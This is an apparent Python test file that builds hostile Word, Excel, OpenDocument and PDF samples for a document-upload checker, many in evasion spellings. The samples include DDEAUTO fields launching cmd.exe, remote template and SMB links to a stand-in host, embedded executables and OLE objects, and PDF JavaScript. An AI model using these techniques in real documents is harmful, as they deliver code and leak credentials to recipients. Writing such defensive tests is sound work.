"""Files that do something by themselves, in the spellings that searching for known words missed.

(name, content, marker, word): refused with `word` in the sentence, or, when `word` is empty, stored without the marker.
"""

import io
import zipfile

import pikepdf

from clienten.tests.kantoorbestanden import (
    KOP,
    MS,
    SHEET,
    WORD,
    R,
    S,
    docx,
    met_sjabloon,
    odfmeta,
    odt,
    rel,
    rels,
    veld,
    wordxml,
    xlsx,
)
from clienten.tests.vijandig import EICAR, actie, pdf

ELDERS = "http://elders.example/x.dotm"
_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
_SJABLOON = rel("attachedTemplate", ELDERS, extern=True)
_DDE = r"DDEAUTO c:\\windows\\system32\\cmd.exe"
_OLE = "application/vnd.openxmlformats-officedocument.oleObject"


def _met_deel(naam, soort, wortel, body):
    """A document with a second part of text: header, footer, notes."""
    return docx(
        links=[rel(soort, naam)],
        delen={f"word/{naam}": wordxml(body, wortel)},
        soorten={f"word/{naam}": f"{WORD}.{soort}+xml"},
    )


def _met_object(soort, naam, type_, basis=R):
    return docx(links=[rel(soort, naam, basis=basis)], delen={f"word/{naam}": "x"}, soorten={f"word/{naam}": type_})


def _koppeling(binnen):
    return xlsx(
        boek='<externalReferences><externalReference r:id="rId9"/></externalReferences>',
        links=[rel("externalLink", "externalLinks/e1.xml")],
        delen={
            "xl/externalLinks/e1.xml": f'{KOP}<externalLink xmlns="{S}" xmlns:r="{R}">{binnen}</externalLink>',
            "xl/externalLinks/_rels/e1.xml.rels": rels(
                rel("externalLinkPath", r"file:///\\elders.example\x.xlsx", extern=True)
            ),
        },
        soorten={"xl/externalLinks/e1.xml": f"{SHEET}.externalLink+xml"},
    )


def _naar(uri, soort="URI"):
    """A link on the page; GoToR names a file."""

    def bewerk(document):
        sleutel = "URI" if soort == "URI" else "F"
        doel = pikepdf.Dictionary(S=pikepdf.Name("/" + soort), **{sleutel: pikepdf.String(uri)})
        link = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9], A=doel)
        document.pages[0].Annots = pikepdf.Array([link])

    return bewerk


def _virusstroom(document):
    document.pages[0].Contents = document.make_stream(b"% " + EICAR)


def _veldscript(code):
    def bewerk(document):
        script = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String(code))
        tekstveld = pikepdf.Dictionary(FT=pikepdf.Name.Tx, T="datum", AA=pikepdf.Dictionary(F=script))
        document.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array([document.make_indirect(tekstveld)]))

    return bewerk


def dubbele_deur():
    """Two parts that Office sees as one: the second is the one with the program."""
    uit = io.BytesIO(docx())
    with zipfile.ZipFile(uit, "a") as zip_:
        zip_.writestr("WORD/document.XML", wordxml(veld(_DDE)))
    return uit.getvalue()


ACTIEF = [
    # a template from elsewhere, however the relation is written
    ("sjabloon.docx", met_sjabloon(rels(_SJABLOON)), ELDERS, "sjabloon"),
    ("enkele aanhaling.docx", met_sjabloon(rels(_SJABLOON.replace('"', "'"))), ELDERS, "sjabloon"),
    ("spaties.docx", met_sjabloon(rels(_SJABLOON.replace("=", " = "))), ELDERS, "sjabloon"),
    ("utf16.docx", met_sjabloon(rels(_SJABLOON).replace("UTF-8", "UTF-16").encode("utf-16")), ELDERS, "sjabloon"),
    ("entiteit.docx", met_sjabloon(rels(_SJABLOON.replace("External", "&#69;xternal"))), ELDERS, "sjabloon"),
    ("eigen entiteit.docx",
     met_sjabloon(rels(_SJABLOON.replace("External", "&e;")).replace("?>\n", '?>\n<!DOCTYPE x [<!ENTITY e "External">]>')), ELDERS, "beschadigd"),
    ("voorvoegsel.docx",
     met_sjabloon(rels(_SJABLOON).replace("<Rel", "<p:Rel").replace("</Rel", "</p:Rel").replace("xmlns=", "xmlns:p=")), ELDERS, "sjabloon"),
    ("RELS.docx", met_sjabloon(rels(_SJABLOON), naam="word/_rels/settings.xml.RELS"), ELDERS, "sjabloon"),
    ("hoofdletters.docx", met_sjabloon(rels(_SJABLOON), naam="WORD/_RELS/SETTINGS.XML.RELS"), ELDERS, "sjabloon"),
    ("share.docx", met_sjabloon(rels(rel("attachedTemplate", r"file:///\\elders.example\s\x.dotm", extern=True))), "elders", "sjabloon"),
    ("share2.docx", met_sjabloon(rels(rel("attachedTemplate", "file://elders.example/x.dotm", extern=True))), "elders", "sjabloon"),
    ("share3.docx", met_sjabloon(rels(rel("attachedTemplate", "file:%2F%2F%2F%5C%5Celders.example/x", extern=True))), "elders", "sjabloon"),
    # a field that starts a program
    ("dde.docx", docx(veld(_DDE)), "DDEAUTO", "programma"),
    ("dde verdeeld.docx", docx(veld("D", "DEA", "UTO", r" c:\\cmd.exe")), "cmd.exe", "programma"),
    ("dde klein.docx", docx(veld(_DDE.lower())), "ddeauto", "programma"),
    ("dde kop.docx", _met_deel("header1.xml", "header", "hdr", veld(_DDE)), "DDEAUTO", "programma"),
    ("dde voet.docx", _met_deel("footer1.xml", "footer", "ftr", veld(_DDE)), "DDEAUTO", "programma"),
    ("dde voetnoot.docx", _met_deel("footnotes.xml", "footnotes", "footnotes", veld(_DDE)), "DDEAUTO", "programma"),
    ("dde kort.docx", docx(rf'<w:fldSimple w:instr="{_DDE}"/>'), "DDEAUTO", "programma"),
    ("dde geen begin.docx", docx(f"<w:r><w:instrText>{_DDE}</w:instrText></w:r>"), "DDEAUTO", "programma"),
    ("dde opgebouwd.docx",
     docx('<w:r><w:fldChar w:fldCharType="begin"/></w:r>' + veld("QUOTE 68 68 69") + r"<w:r><w:instrText> c:\\cmd.exe</w:instrText></w:r>"
          '<w:r><w:fldChar w:fldCharType="end"/></w:r>'), "cmd.exe", "programma"),
    ("dubbel.docx", dubbele_deur(), "DDEAUTO", "beschadigd"),
    ("beeld van web.docx", docx(veld(r'INCLUDEPICTURE "http://elders.example/x.png" \d')), "elders", "veldcode"),
    ("tekst van share.docx", docx(veld(r'INCLUDETEXT "\\\\elders.example\\x.docx"')), "elders", "veldcode"),
    # another file or program inside
    ("altchunk.docx", _met_object("aFChunk", "a.html", "text/html"), "a.html", "ander bestand"),
    ("ole.docx", _met_object("oleObject", "embeddings/o1.bin", _OLE), "o1.bin", "ander bestand"),
    ("exe.docx", _met_object("package", "embeddings/x.exe", "application/octet-stream"), "x.exe", "ander bestand"),
    ("activex.docx", _met_object("control", "activeX/a1.xml", "application/vnd.ms-office.activeX+xml"), "a1.xml", "ander bestand"),
    ("ole elders.docx", docx(links=[rel("oleObject", "http://elders.example/x", extern=True)]), "elders", "ander bestand"),
    ("subdocument.docx", docx(links=[rel("subDocument", "http://elders.example/x", extern=True)]), "elders", "ander bestand"),
    ("los.docx", docx(delen={"word/los.exe": "MZ los"}), "los", ""),
    ("onbekend.docx", docx(links=[rel("nieuwigheid", "n.xml")], delen={"word/n.xml": "<nieuwigheid/>"}), "nieuwigheid", ""),
    ("beeld elders.docx", docx(links=[rel("image", "http://elders.example/volg.png", extern=True)]), "elders", ""),
    ("link naar share.docx", docx(links=[rel("hyperlink", r"file:///\\elders.example\x", extern=True)]), "elders", ""),
    ("samenvoegen.docx", docx(links=[rel("mailMergeSource", "file:///C:/x.xlsx", extern=True)]), "x.xlsx", "gegevens"),
    ("vml.docx", docx(r'<w:pict><v:shape><v:imagedata src="\\elders.example\x.png"/></v:shape></w:pict>'), "elders", "ander adres"),
    # Excel
    ("dde.xlsx", _koppeling('<ddeLink ddeService="cmd" ddeTopic="/c calc"/>'), "ddeLink", "programma"),
    ("dde formule.xlsx", xlsx("<f>cmd|'/c calc.exe'!A0</f>"), "calc.exe", "formule"),
    ("webservice.xlsx", xlsx('<f>_xlfn.WEBSERVICE("http://elders.example")</f>'), "elders", "formule"),
    ("beeld.xlsx", xlsx('<f>_xlfn.IMAGE ("http://elders.example")</f>'), "elders", "formule"),
    ("naam.xlsx", xlsx(boek='<definedNames><definedName name="a">WebService("http://elders.example")</definedName></definedNames>'),
     "elders", "formule"),
    ("verbinding.xlsx",
     xlsx(links=[rel("connections", "connections.xml")], delen={"xl/connections.xml": '<connections><connection name="elders"/></connections>'},
          soorten={"xl/connections.xml": f"{SHEET}.connections+xml"}), "elders", "gegevens"),
    ("koppeling.xlsx", _koppeling('<externalBook r:id="rId9"/>'), "elders", ""),
    ("macro bin.xlsx", xlsx(links=[rel("vbaProject", "v.bin", basis=MS)], delen={"xl/v.bin": "x"}), "v.bin", "macro"),
    # OpenDocument
    ("script.odt", odt(scripts='<office:scripts><office:event-listeners><script:event-listener xlink:href="vnd.sun.star.script:x"/>'
                       "</office:event-listeners></office:scripts>"), "vnd.sun", "macro"),
    ("object.odt", odt('<draw:frame><draw:object-ole xlink:href="./Object 1"/></draw:frame>', delen={"Object 1": "MZ"}), "MZ", "ander bestand"),
    ("macrolink.odt", odt('<text:a xlink:href="vnd.sun.star.script:Standard.M.x?language=Basic">x</text:a>'), "vnd.sun", "macro"),
    ("sectie.odt", odt('<text:section><text:section-source xlink:href="http://elders.example/x.odt"/></text:section>'), "elders", "ander adres"),
    ("venster.odt", odt('<draw:frame><draw:floating-frame xlink:href="http://elders.example"/></draw:frame>'), "elders", "ander adres"),
    ("beeld.odt", odt('<draw:frame><draw:image xlink:href="http://elders.example/volg.png"/></draw:frame>'), "elders", ""),
    ("sjabloon.odt", odt(delen={"meta.xml": odfmeta('<meta:template xlink:href="http://elders.example/x.ott"/>')}), "elders", ""),
    # PDF
    ("gotor.pdf", pdf(_naar(r"\\elders.example\x.pdf", "GoToR")), "elders", "ander adres"),
    ("gotor vanzelf.pdf", pdf(actie("GoToR", F="x.pdf")), "GoToR", "ander adres"),
    ("web vanzelf.pdf", pdf(actie("URI", URI="http://elders.example")), "elders", "ander adres"),
    ("script in link.pdf", pdf(_naar("javascript:alert(1)")), "alert", "script"),
    ("link naar share.pdf", pdf(_naar(r"file://elders.example/x")), "elders", ""),
    ("virus in stroom.pdf", pdf(_virusstroom, compress_streams=True, recompress_flate=True), "EICAR", "virus"),
    ("script als opmaak.pdf", pdf(_veldscript('AFDate_FormatEx("dd"); app.alert(1)')), "alert", "script"),
    ("script in opmaak.pdf", pdf(_veldscript("AFDate_FormatEx(app.alert(1))")), "alert", "script"),
]  # fmt: skip

OPMAAKSCRIPT = pdf(_veldscript('AFDate_FormatEx("dd/mm/yyyy");'))
